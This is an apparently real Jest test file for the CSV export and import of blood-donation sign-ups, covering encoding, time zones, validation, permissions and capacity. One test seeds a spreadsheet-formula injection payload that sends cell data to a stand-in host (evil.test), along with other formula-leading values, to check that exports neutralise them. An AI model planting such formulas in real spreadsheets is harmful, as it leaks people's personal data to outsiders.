import { parse } from 'csv-parse/sync';
import { CONSENT_VERSION, Role } from '@life-relay/domain';
import { Factories, hohhot as at } from '../../testing/factories';
import { errorCode, createTestApp, TestApp } from '../../testing/test-app';

const IMPORT = `mutation($driveId: ID!, $csv: String!, $dryRun: Boolean) {
  importSignUps(driveId: $driveId, csv: $csv, dryRun: $dryRun) { imported dryRun refused { line fields { field key message } } } }`;
const ROSTER = `query($id: ID!) { signUps(driveId: $id, first: 100) { edges { node {
  id status channel volumeMl deferralReason retryOn checkedInAt outcomeAt
  volunteer { name email phone birthDate bloodType } shift { startsAt } team { code } } } } }`;
const STATS = `query($id: ID!) { drive(id: $id) { stats { signUps donated } } }`;

const HEADER = 'name,email,phone,birthDate,bloodType,shiftStartsAt,teamCode,status,volumeMl,deferralReason';

type Report = { imported: number; dryRun: boolean; refused: { line: number; fields: { field: string; key: string; message: string }[] }[] };

describe('sign-ups as spreadsheets', () => {
  let app: TestApp;
  let organizer: string;
  let teamLead: string;
  let make: Factories;
  let n = 0;

  beforeAll(async () => {
    app = await createTestApp();
    organizer = (await app.userWithRole(Role.ORGANIZER)).token;
    teamLead = (await app.userWithRole(Role.TEAM_LEAD)).token;
    make = new Factories(app, organizer);
  });
  afterAll(() => app.close());

  const org = <T = Record<string, any>>(query: string, variables: Record<string, unknown> = {}) => app.ok<T>(query, variables, { token: organizer });

  async function roster(driveId: string) {
    const data = await org(ROSTER, { id: driveId });
    return data.signUps.edges.map((e: { node: Record<string, any> }) => e.node) as Record<string, any>[];
  }

  async function outcome(driveId: string, email: string, input: Record<string, unknown>) {
    const row = (await roster(driveId)).find((r) => r.volunteer.email === email) as Record<string, any>;
    await org(`mutation($id: ID!, $input: OutcomeInput!) { recordOutcome(signUpId: $id, input: $input) { status } }`, { id: row.id, input: { ...input, outsideDriveDays: true } });
  }

  /** The raw bytes of a download, whatever its content type. */
  function download(driveId: string, token?: string) {
    let req = app.http.get(`/api/drives/${driveId}/sign-ups.csv`);
    if (token) req = req.set('authorization', `Bearer ${token}`);
    return req.buffer(true).parse((res, done) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => done(null, Buffer.concat(chunks)));
    });
  }

  async function importCsv(driveId: string, csv: string, options: { dryRun?: boolean; token?: string | null; locale?: string } = {}) {
    return app.gql<{ importSignUps: Report }>(IMPORT, { driveId, csv, dryRun: options.dryRun ?? null }, {
      token: options.token === undefined ? organizer : options.token,
      headers: options.locale ? { 'accept-language': options.locale } : {},
    });
  }

  async function imported(driveId: string, csv: string, options: { dryRun?: boolean; locale?: string } = {}): Promise<Report> {
    const result = await importCsv(driveId, csv, options);
    if (result.errors?.length || !result.data) throw new Error(`GraphQL errors: ${JSON.stringify(result.errors)}`);
    return result.data.importSignUps;
  }

  async function counts() {
    const [row] = await app.sql(
      `SELECT (SELECT count(*) FROM volunteers)::int AS volunteers, (SELECT count(*) FROM sign_ups)::int AS sign_ups,
              (SELECT count(*) FROM outbox)::int AS outbox, (SELECT coalesce(sum(registered_count), 0) FROM shifts)::int AS places`,
    );
    return row;
  }

  const keysOf = (report: Report) => Object.fromEntries(report.refused.map((r) => [r.line, r.fields.map((f) => `${f.field}:${f.key}`)]));

  describe('export', () => {
    it('gives every sign-up in arrival order as UTF-8 with a byte-order mark, Chinese names intact', async () => {
      const d = await make.drive({ capacities: [50, 50] });
      const club = await make.team(`IMU Red Cross Club ${++n}`, 'Inner Mongolia University 内蒙古大学');
      const wang = await make.signUp(d, { name: '王小明', email: 'wang@campus.test', phone: '13812345670', teamCode: club.code, source: 'qr', bloodType: 'O_NEG' });
      const li = await make.signUp(d, { name: '李 "Lily" 丽, Jr.', email: 'li@campus.test', shiftId: d.shifts[1] });
      const zhao = await make.signUp(d, { name: '赵六', email: 'zhao@campus.test', birthDate: null, phone: null });
      await outcome(d.id, wang.email, { status: 'DONATED', volumeMl: 400 });
      await outcome(d.id, li.email, { status: 'DEFERRED', deferralReason: 'Low haemoglobin', retryOn: '2031-01-05' });

      const res = await download(d.id, organizer).expect(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toBe(`attachment; filename="${d.slug}-sign-ups.csv"`);
      expect(res.headers['cache-control']).toBe('no-store');
      const body = res.body as Buffer;
      expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = body.toString('utf8');
      expect(text).toContain('王小明');
      expect(text.split('\r\n')[0]).toBe(
        '\ufeffname,email,phone,birthDate,bloodType,status,shiftStartsAt (Asia/Shanghai),shiftEndsAt (Asia/Shanghai),team,teamCode,college,channel,source,signedUpAt (Asia/Shanghai),checkedInAt (Asia/Shanghai),volumeMl,deferralReason,retryOn',
      );

      // The times on the drive's clock (09:00 in Hohhot is 01:00 UTC), keyed here without the zone.
      const rows: Record<string, string>[] = parse(body, { bom: true, columns: (header: string[]) => header.map((h) => h.replace(' (Asia/Shanghai)', '')) });
      expect(rows.map((r) => r.email)).toEqual([wang.email, li.email, zhao.email]);
      expect(rows[0]).toMatchObject({
        name: '王小明',
        phone: `'+8613812345670`, // a leading + would make a spreadsheet compute the cell
        birthDate: '2004-05-20',
        bloodType: 'O_NEG',
        status: 'DONATED',
        shiftStartsAt: '2030-12-05 09:00:00',
        shiftEndsAt: '2030-12-05 11:00:00',
        team: expect.stringMatching(/^IMU Red Cross Club/),
        teamCode: club.code,
        college: 'Inner Mongolia University 内蒙古大学',
        channel: 'QR',
        source: 'qr',
        volumeMl: '400',
        deferralReason: '',
      });
      const [times] = await app.sql(
        `SELECT to_char(s.created_at AT TIME ZONE 'Asia/Shanghai', 'YYYY-MM-DD HH24:MI:SS') AS signed_up, to_char(s.checked_in_at AT TIME ZONE 'Asia/Shanghai', 'YYYY-MM-DD HH24:MI:SS') AS checked_in
           FROM sign_ups s JOIN volunteers v ON v.id = s.volunteer_id WHERE v.email = $1`,
        [wang.email],
      );
      expect(rows[0]).toMatchObject({ signedUpAt: times.signed_up, checkedInAt: times.checked_in });
      expect(rows[1]).toMatchObject({ name: '李 "Lily" 丽, Jr.', status: 'DEFERRED', shiftStartsAt: '2030-12-05 12:00:00', deferralReason: 'Low haemoglobin', retryOn: '2031-01-05', team: '', college: '' });
      expect(rows[2]).toMatchObject({ name: '赵六', phone: '', birthDate: '', status: 'REGISTERED', checkedInAt: '', volumeMl: '' });
    });

    it('neutralises cells a spreadsheet would run as formulas', async () => {
      const d = await make.drive();
      await make.signUp(d, { name: '=HYPERLINK("http://evil.test/?"&A2,"Click")', email: 'formula@campus.test', source: '@SUM(1+1)' });
      await make.signUp(d, { name: '-2+3', email: 'minus@campus.test', source: '+cmd' });
      const [first, second]: Record<string, string>[] = parse((await download(d.id, organizer).expect(200)).body, { bom: true, columns: true });
      expect(first.name).toBe(`'=HYPERLINK("http://evil.test/?"&A2,"Click")`);
      expect(first.source).toBe(`'@SUM(1+1)`);
      expect(second.name).toBe(`'-2+3`);
      expect(second.source).toBe(`'+cmd`);
    });

    it('quotes a cell with a semicolon, so a spreadsheet reading ; as the separator does not run its second half', async () => {
      const d = await make.drive();
      await make.signUp(d, { name: 'x;=1+1', email: 'semicolon@campus.test', source: 'a\t=2+2' });
      const text = (await download(d.id, organizer).expect(200)).body.toString('utf8');
      expect(text).toContain('"x;=1+1"');
      const [row]: Record<string, string>[] = parse(text, { bom: true, columns: true });
      expect(row.name).toBe('x;=1+1');
      // Read as a semicolon-separated file, no cell starts as a formula.
      const cells: string[][] = parse(text, { bom: true, delimiter: ';', relax_quotes: true, relax_column_count: true });
      expect(cells.flat().filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    });

    it('is for organizers only, and says so with HTTP statuses', async () => {
      const d = await make.drive();
      await make.signUp(d);
      const anonymous = await download(d.id).expect(401);
      expect(JSON.parse(anonymous.body.toString())).toMatchObject({ statusCode: 401, code: 'UNAUTHENTICATED' });
      const lead = await download(d.id, teamLead).expect(403);
      expect(JSON.parse(lead.body.toString())).toMatchObject({ statusCode: 403, code: 'FORBIDDEN' });
      await download(d.id, 'not-a-token').expect(401);
      const unknown = await download('00000000-0000-4000-8000-000000000000', organizer).expect(404);
      expect(unknown.headers['content-type']).toMatch(/^application\/json/);
      expect(JSON.parse(unknown.body.toString())).toMatchObject({ statusCode: 404, code: 'NOT_FOUND', message: 'Drive was not found.' });
      await download('not-a-uuid', organizer).expect(404);
      await download(d.id, organizer).expect(200);
    });

    it('of a drive without sign-ups is the header row alone', async () => {
      const d = await make.drive();
      const text = (await download(d.id, organizer).expect(200)).body.toString('utf8');
      expect(text.startsWith('\ufeffname,email,')).toBe(true);
      expect(text.split('\r\n').filter(Boolean)).toHaveLength(1);
    });
  });

  describe('import', () => {
    it('takes back an exported drive into another one with the same shift times', async () => {
      const source = await make.drive({ capacities: [50, 50] });
      const club = await make.team(`Hohhot Riders ${++n}`, 'Inner Mongolia Agricultural University');
      const people = [
        await make.signUp(source, { name: '王小明', teamCode: club.code, bloodType: 'A_POS' }),
        await make.signUp(source, { name: 'Ayesha Khan', shiftId: source.shifts[1], phone: '+44 20 7946 0958' }),
        await make.signUp(source, { name: '=1+1 巴特尔', teamCode: club.code }),
        await make.signUp(source, { name: '张三', shiftId: source.shifts[1], birthDate: null }),
      ];
      await outcome(source.id, people[0].email, { status: 'DONATED', volumeMl: 400 });
      await outcome(source.id, people[1].email, { status: 'DEFERRED', deferralReason: '血红蛋白偏低', retryOn: '2031-01-05' });
      await org(`mutation($id: ID!) { checkIn(signUpId: $id) { status } }`, { id: (await roster(source.id)).find((r) => r.volunteer.email === people[2].email)?.id });

      const exported = (await download(source.id, organizer).expect(200)).body.toString('utf8');
      // The paper copies of another day: same people, new addresses.
      const csv = exported.replace(/@campus\.test/g, '@paper.test');
      const target = await make.drive({ capacities: [50, 50] });
      const before = await counts();
      expect(await imported(target.id, csv)).toEqual({ imported: 4, dryRun: false, refused: [] });

      expect((await org(STATS, { id: target.id })).drive.stats).toEqual({ signUps: 4, donated: 1 });
      const rows = await roster(target.id);
      expect(rows.map((r) => [r.volunteer.name, r.status, r.channel, r.shift.startsAt, r.team?.code ?? null])).toEqual([
        ['王小明', 'DONATED', 'IMPORT', '2030-12-05T01:00:00.000Z', club.code],
        ['Ayesha Khan', 'DEFERRED', 'IMPORT', '2030-12-05T04:00:00.000Z', null],
        ['=1+1 巴特尔', 'CHECKED_IN', 'IMPORT', '2030-12-05T01:00:00.000Z', club.code],
        ['张三', 'REGISTERED', 'IMPORT', '2030-12-05T04:00:00.000Z', null],
      ]);
      // A phone finds one person: the campus record keeps its number, the paper record does not copy it.
      expect(rows[0]).toMatchObject({ volumeMl: 400, volunteer: { email: people[0].email.replace('campus', 'paper'), phone: null, birthDate: '2004-05-20', bloodType: 'A_POS' } });
      expect(rows[1]).toMatchObject({ deferralReason: '血红蛋白偏低', retryOn: '2031-01-05', volunteer: { phone: null } });
      // The drive is still to come: checked in and donated as of the import.
      expect(Date.now() - new Date(rows[0].checkedInAt).getTime()).toBeLessThan(60_000);
      expect(rows[0].outcomeAt).toBe(rows[0].checkedInAt);
      expect(rows[3]).toMatchObject({ checkedInAt: null, outcomeAt: null, volunteer: { birthDate: null } });

      const after = await counts();
      expect(after).toEqual({ ...before, volunteers: before.volunteers + 4, sign_ups: before.sign_ups + 4, places: before.places + 4 });
      const [paper] = await app.sql(
        `SELECT count(*)::int AS n, min(s.consent_version) AS consent, min(s.locale) AS locale FROM sign_ups s WHERE s.drive_id = $1`,
        [target.id],
      );
      expect(paper).toEqual({ n: 4, consent: CONSENT_VERSION, locale: 'en' });
    });

    it('reads an export’s times on the clock its header names, whatever the target drive’s zone', async () => {
      const source = await make.drive({ capacities: [50, 50] });
      const person = await make.signUp(source, { name: 'Travelling Donor', shiftId: source.shifts[1] });
      const exported = (await download(source.id, organizer).expect(200)).body.toString('utf8');
      expect(exported).toContain(',2030-12-05 12:00:00,2030-12-05 14:00:00,'); // Hohhot's clock
      // The same shifts, run by an organizer whose drives are on Berlin's clock.
      const target = await make.drive({ capacities: [50, 50], input: { timeZone: 'Europe/Berlin' } });
      expect(await imported(target.id, exported.replace(person.email, 'traveller@paper.test'))).toEqual({ imported: 1, dryRun: false, refused: [] });
      expect((await roster(target.id)).map((r) => r.shift.startsAt)).toEqual(['2030-12-05T04:00:00.000Z']);
    });

    it('reads wall times in the drive’s zone, spreadsheet dates and loose spellings, and keeps existing volunteers’ names', async () => {
      const d = await make.drive({ capacities: [5, 5] });
      const known = await make.signUp(await make.drive(), { name: 'Original Name', phone: null, birthDate: null });
      const csv = [
        'Name;E-mail;Phone;Birth date;Blood type;Shift starts at;Status;Volume (ml)',
        `New Name;${known.email.toUpperCase()};138 1234 5678;2001/3/9;o-;2030-12-05 09:00;donated;300`,
        `Nadia;nadia@paper.test;;;AB+;2030/12/5 12:00;no show;`,
      ].join('\n');
      expect(await imported(d.id, csv, { locale: 'zh-CN' })).toEqual({ imported: 2, dryRun: false, refused: [] });
      const rows = await roster(d.id);
      expect(rows.map((r) => [r.volunteer.name, r.status, r.shift.startsAt])).toEqual([
        ['Original Name', 'DONATED', '2030-12-05T01:00:00.000Z'],
        ['Nadia', 'NO_SHOW', '2030-12-05T04:00:00.000Z'],
      ]);
      expect(rows[0].volunteer).toMatchObject({ phone: '+8613812345678', birthDate: '2001-03-09', bloodType: 'O_NEG' });
      expect(rows[1].volunteer.bloodType).toBe('AB_POS');
      const [nadia] = await app.sql(`SELECT v.locale, s.locale AS sign_up_locale FROM volunteers v JOIN sign_ups s ON s.volunteer_id = v.id WHERE v.email = 'nadia@paper.test'`);
      expect(nadia).toEqual({ locale: 'zh-CN', sign_up_locale: 'zh-CN' });
    });

    it('refuses the whole file and reports every bad row with its line and fields', async () => {
      const d = await make.drive({ capacities: [50, 50] });
      const club = await make.team(`Paper Club ${++n}`);
      const csv = [
        HEADER,
        `Good Person,good@paper.test,13812345678,2000-01-01,O_POS,${at(9)},${club.code},,,`,
        `Bad Contact,not-an-email,12345,2000-01-01,,${at(9)},,,,`,
        `"  ",blank-name@paper.test,,,,${at(9)},ZZZZZZ,,,`,
        `Wrong Time,time@paper.test,,,,${at(10)},,,,`,
        `"Multi`,
        `Line",dates@paper.test,,2001-02-30,Z+,not a time,,,,`,
        `No Volume,volume@paper.test,,,,${at(12)},,DONATED,,`,
        `No Reason,reason@paper.test,,,,${at(12)},,deferred,,`,
        `Waiting,waiting@paper.test,,,,${at(12)},,WAITLISTED,,`,
        `Too Young,young@paper.test,,2015-01-01,,${at(12)},,,,`,
        `Too Much,much@paper.test,,,,${at(12)},,DONATED,5000,`,
        `,,,,,,,,,`,
        `${'x'.repeat(101)},long@paper.test,,,,${at(12)},,,,`,
      ].join('\r\n');
      const before = await counts();
      const report = await imported(d.id, csv);
      expect(report.imported).toBe(0);
      expect(report.dryRun).toBe(false);
      expect(keysOf(report)).toEqual({
        3: ['email:invalidEmail', 'phone:invalidPhone'],
        4: ['name:required', 'teamCode:unknownTeamCode'],
        5: ['shiftStartsAt:shiftNotInDrive'],
        6: ['birthDate:invalidDate', 'bloodType:invalidValue', 'shiftStartsAt:invalidDateTime'],
        8: ['volumeMl:required'],
        9: ['deferralReason:required'],
        10: ['status:importStatus'],
        11: ['birthDate:tooYoung'],
        12: ['volumeMl:outOfRange'],
        14: ['name:tooLong'],
      });
      expect(report.refused[0].fields[0].message).toBe('Enter a valid e-mail address.');
      expect(await counts()).toEqual(before);
      expect(await roster(d.id)).toEqual([]);
    });

    it('answers in the caller’s language', async () => {
      const d = await make.drive();
      const report = await imported(d.id, `${HEADER}\n王小明,wang@paper,,,,${at(9)},,,,`, { locale: 'zh-CN,zh;q=0.9' });
      expect(report.refused).toEqual([{ line: 2, fields: [{ field: 'email', key: 'invalidEmail', message: '请输入有效的电子邮箱地址。' }] }]);
    });

    it('with dryRun checks the file and writes nothing', async () => {
      const d = await make.drive();
      const csv = `${HEADER}\nDry One,dry1@paper.test,,,,${at(9)},,,,\nDry Two,dry2@paper.test,,,,${at(9)},,DONATED,350,`;
      const before = await counts();
      expect(await imported(d.id, csv, { dryRun: true })).toEqual({ imported: 2, dryRun: true, refused: [] });
      expect(await counts()).toEqual(before);
      const bad = await imported(d.id, `${csv}\nDry Three,dry1@paper.test,,,,${at(9)},,,,`, { dryRun: true });
      expect(bad).toMatchObject({ imported: 0, dryRun: true });
      expect(keysOf(bad)).toEqual({ 2: ['email:duplicateInFile'], 4: ['email:duplicateInFile'] });
      expect(await counts()).toEqual(before);
      expect(await imported(d.id, csv)).toEqual({ imported: 2, dryRun: false, refused: [] });
      expect((await org(STATS, { id: d.id })).drive.stats).toEqual({ signUps: 2, donated: 1 });
    });

    it('refuses the rows a full shift has no place for', async () => {
      const d = await make.drive({ capacities: [3, 50] });
      await make.signUp(d);
      const csv = [
        HEADER,
        `Seat One,seat1@paper.test,,,,2030-12-05 09:00,,,,`,
        `Other Shift,other@paper.test,,,,2030-12-05 12:00,,,,`,
        `Seat Two,seat2@paper.test,,,,2030-12-05 09:00,,NO_SHOW,,`,
        `One Too Many,seat3@paper.test,,,,2030-12-05 09:00,,,,`,
      ].join('\n');
      const before = await counts();
      const report = await imported(d.id, csv);
      expect(report).toEqual({ imported: 0, dryRun: false, refused: [{ line: 5, fields: [{ field: 'shiftStartsAt', key: 'shiftFull', message: 'This shift is full.' }] }] });
      expect(await counts()).toEqual(before);
      // Without the surplus row the rest fits exactly.
      expect(await imported(d.id, csv.split('\n').slice(0, 4).join('\n'))).toMatchObject({ imported: 3, refused: [] });
      const [shift] = await app.sql(`SELECT sh.capacity, sh.registered_count, coalesce(ss.waitlisted, 0) AS waitlist_count FROM shifts sh LEFT JOIN shift_stats ss ON ss.shift_id = sh.id WHERE sh.id = $1`, [d.shifts[0]]);
      expect(shift).toEqual({ capacity: 3, registered_count: 3, waitlist_count: 0 });
    });

    it('refuses e-mails that appear twice in the file and people already signed up', async () => {
      const d = await make.drive();
      const already = await make.signUp(d);
      const csv = [
        HEADER,
        `Twin A,twin@paper.test,,,,${at(9)},,,,`,
        `Already,${already.email},,,,${at(12)},,,,`,
        `Twin B,TWIN@Paper.test,,,,${at(12)},,,,`,
        `Single,single@paper.test,,,,${at(12)},,,,`,
      ].join('\n');
      const report = await imported(d.id, csv);
      expect(keysOf(report)).toEqual({ 2: ['email:duplicateInFile'], 3: ['email:alreadySignedUp'], 4: ['email:duplicateInFile'] });
      expect(report.refused[0].fields[0].message).toBe('This e-mail address is also on line 4 of the file.');
      expect(report.refused[2].fields[0].message).toBe('This e-mail address is also on line 2 of the file.');
      expect(await roster(d.id)).toHaveLength(1);
    });

    it('brings back a cancelled sign-up of the same person', async () => {
      const d = await make.drive();
      const gone = await make.signUp(d);
      await app.ok(`mutation($t: String!) { cancelSignUp(manageToken: $t) { status } }`, { t: gone.manageToken });
      expect(await imported(d.id, `${HEADER}\nCame After All,${gone.email},,,,${at(12)},,DONATED,400,`)).toMatchObject({ imported: 1, refused: [] });
      const rows = await roster(d.id);
      expect(rows).toHaveLength(1);
      expect(rows[0]).toMatchObject({ status: 'DONATED', channel: 'IMPORT', volumeMl: 400, shift: { startsAt: '2030-12-05T04:00:00.000Z' } });
      const places = await app.sql(`SELECT registered_count FROM shifts WHERE drive_id = $1 ORDER BY starts_at`, [d.id]);
      expect(places.map((s) => s.registered_count)).toEqual([0, 1]);
    });

    it('takes paper forms typed in after a drive closed, dated at the shift, but not for a draft', async () => {
      const closed = await make.drive({ capacities: [10], status: 'CLOSED', day: '2025-12-05' });
      const csv = `${HEADER}\nLate Typing,late@paper.test,,,,2025-12-05 09:00,,DONATED,400,\nNever Came,never@paper.test,,,,2025-12-05 09:00,,NO_SHOW,,`;
      expect(await imported(closed.id, csv)).toMatchObject({ imported: 2, refused: [] });
      const rows = await roster(closed.id);
      expect(rows.map((r) => [r.status, r.checkedInAt, r.outcomeAt, r.volumeMl])).toEqual([
        ['DONATED', '2025-12-05T01:00:00.000Z', '2025-12-05T03:00:00.000Z', 400],
        ['NO_SHOW', null, null, null],
      ]);
      expect((await org(STATS, { id: closed.id })).drive.stats).toEqual({ signUps: 2, donated: 1 });
      const draft = await make.drive({ capacities: [10], status: 'DRAFT' });
      expect(errorCode(await importCsv(draft.id, `${HEADER}\nToo Early,early@paper.test,,,,${at(9)},,,,`))).toBe('CONFLICT');
    });

    it('does not e-mail anyone about paper sign-ups', async () => {
      const d = await make.drive();
      const before = await counts();
      await imported(d.id, `${HEADER}\nNo Mail,nomail@paper.test,,,,${at(9)},,,,\nNo Thanks,nothanks@paper.test,,,,${at(9)},,DONATED,400,`);
      expect((await counts()).outbox).toBe(before.outbox);
    });

    it('refuses a file without the needed columns or one it cannot read', async () => {
      const d = await make.drive();
      const fieldsOf = (result: Awaited<ReturnType<typeof importCsv>>) => {
        expect(errorCode(result)).toBe('BAD_USER_INPUT');
        return result.errors?.[0].extensions.fields?.map((f) => `${f.field}:${f.key}:${f.message}`);
      };
      expect(fieldsOf(await importCsv(d.id, 'name,phone\nA,13812345678'))).toEqual(['csv:csvMissingColumns:The first row must name the columns; missing: email, shiftStartsAt.']);
      expect(fieldsOf(await importCsv(d.id, ''))).toEqual(['csv:csvMissingColumns:The first row must name the columns; missing: name, email, shiftStartsAt.']);
      expect(fieldsOf(await importCsv(d.id, 'name,email,EMAIL,shiftStartsAt\n'))).toEqual(['csv:csvDuplicateColumn:The column email appears twice in the first row.']);
      expect(fieldsOf(await importCsv(d.id, `${HEADER}\n"Open quote,a@paper.test,,,,${at(9)},,,,`))).toEqual([
        'csv:csvUnreadable:The file cannot be read as CSV near line 2 (check the quotes).',
      ]);
      expect(await imported(d.id, HEADER)).toEqual({ imported: 0, dryRun: false, refused: [] });
    });

    it('imports a thousand rows at once, in file order', async () => {
      const d = await make.drive({ capacities: [600, 600] });
      const rows = Array.from({ length: 1000 }, (_, i) => `Person ${i},p${i}@bulk.test,,,,2030-12-05 ${i % 2 ? '12' : '09'}:00,,${i % 10 ? '' : 'DONATED'},${i % 10 ? '' : 400},`);
      const before = await counts();
      expect(await imported(d.id, [HEADER, ...rows].join('\n'))).toEqual({ imported: 1000, dryRun: false, refused: [] });
      expect((await org(STATS, { id: d.id })).drive.stats).toEqual({ signUps: 1000, donated: 100 });
      const order = await app.sql(`SELECT v.name FROM sign_ups s JOIN volunteers v ON v.id = s.volunteer_id WHERE s.drive_id = $1 ORDER BY s.arrival`, [d.id]);
      expect(order.map((r) => r.name)).toEqual(rows.map((_, i) => `Person ${i}`));
      expect(await counts()).toEqual({ ...before, volunteers: before.volunteers + 1000, sign_ups: before.sign_ups + 1000, places: before.places + 1000 });
    });

    it('is for organizers only', async () => {
      const d = await make.drive();
      const csv = `${HEADER}\nA,a@paper.test,,,,${at(9)},,,,`;
      expect(errorCode(await importCsv(d.id, csv, { token: teamLead }))).toBe('FORBIDDEN');
      expect(errorCode(await importCsv(d.id, csv, { token: null }))).toBe('UNAUTHENTICATED');
      expect(errorCode(await importCsv('00000000-0000-4000-8000-000000000000', csv))).toBe('NOT_FOUND');
      expect(await roster(d.id)).toEqual([]);
    });
  });
});
